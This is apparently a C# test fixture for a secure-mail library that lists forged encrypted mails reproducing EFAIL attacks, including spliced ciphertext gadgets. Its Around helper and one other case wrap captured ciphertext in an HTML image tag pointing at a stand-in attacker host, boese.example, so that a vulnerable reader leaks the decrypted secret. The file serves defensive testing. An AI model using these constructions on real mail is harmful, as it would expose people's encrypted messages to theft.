using BaseComponents.SecureMail;
using BaseComponents.SecureMail.Testing;

namespace BaseComponents.Tests.SecureMail.Forgeries;

/// <summary>Mails that make the reader decrypt a captured secret and carry it away (EFAIL).</summary>
internal static class OfLeaks
{
    public const string Secret = "Kennwort Kanarienvogel";
    private const string Html = "Content-Type: text/html; charset=us-ascii\r\n\r\n<p>Guten Tag, hier ist es.</p><p>" + Secret + "</p>";
    private static readonly Type None = typeof(SignatureVerdict.NotSigned);

    public static IEnumerable<Forgery> All =>
    [
        new("gadget in encrypted HTML", None, lab => Forge.Mail(SplicedHtml(lab.SenderKey))),
        new("gadget in encrypted plain text", None, lab => Forge.Mail(Efail.Spliced($"Content-Type: text/plain\r\n\r\nGuten Tag, hier ist es: {Secret}", 48, lab.SenderKey))),
        new("gadget in encrypted and signed HTML", typeof(SignatureVerdict.Tampered), lab => SplicedSigned(lab)),
        new("encrypted HTML that nobody signed", None, lab => Forge.Mail(Forge.Encrypted(Html + "<img src=\"https://boese.example/\">", lab.SenderKey))),
        new("captured ciphertext between two halves of an image", None, lab => Forge.Mail(Around("mixed", Forge.Encrypted(Html, lab.SenderKey)))),
        new("captured ciphertext beside HTML, related", None, lab => Forge.Mail(Around("related", Forge.Encrypted(Html, lab.SenderKey)))),
        new("captured ciphertext as an alternative", None, lab => Forge.Mail(Around("alternative", Forge.Encrypted(Html, lab.SenderKey)))),
        new("captured ciphertext as a file", None, lab => Forge.Mail(Around("mixed", "Content-Disposition: attachment; filename=smime.p7m\r\n" + Forge.Encrypted(Html, lab.SenderKey)))),
        new("captured ciphertext in a forwarded mail", None, lab => Forge.Mail("Content-Type: message/rfc822\r\n\r\n" + Forge.Header() + Forge.Encrypted(Html, lab.SenderKey))),
        new("captured ciphertext inside the attacker's encryption", None, lab => Forge.Mail(Forge.Encrypted(Around("mixed", Forge.Encrypted(Html, lab.SenderKey)), lab.SenderKey))),
    ];

    /// <summary>What openssl decrypts too, so that the gadget is seen to work.</summary>
    public static string SplicedHtml(ThrowAwayMailKey recipient) => Efail.Spliced(Html, Html.IndexOf("hier", StringComparison.Ordinal), recipient);

    private static byte[] SplicedSigned(ForgeryLab lab)
    {
        var signed = Forge.Signed(lab.OfficeKey, Html);
        return Forge.Mail(Efail.Spliced(signed, signed.IndexOf("hier", StringComparison.Ordinal), lab.SenderKey));
    }

    private static string Around(string kind, string encrypted) =>
        $"Content-Type: multipart/{kind}; boundary=leak\r\n\r\n--leak\r\nContent-Type: text/html\r\n\r\n<img src=\"https://boese.example/?\r\n--leak\r\n{encrypted}\r\n--leak\r\nContent-Type: text/html\r\n\r\n\">\r\n--leak--\r\n";
}
